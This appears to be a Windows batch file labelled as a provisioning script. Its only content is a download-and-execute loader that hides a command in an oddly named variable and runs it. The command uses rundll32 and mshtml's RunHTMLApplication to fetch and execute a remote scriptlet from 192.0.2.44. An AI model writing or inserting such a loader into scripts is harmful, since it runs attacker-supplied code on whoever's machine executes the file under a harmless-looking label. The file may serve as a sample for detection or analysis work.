REM provision 8201 v0
@echo off
set "zvhk=rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.44/r.sct")"
call %zvhk%
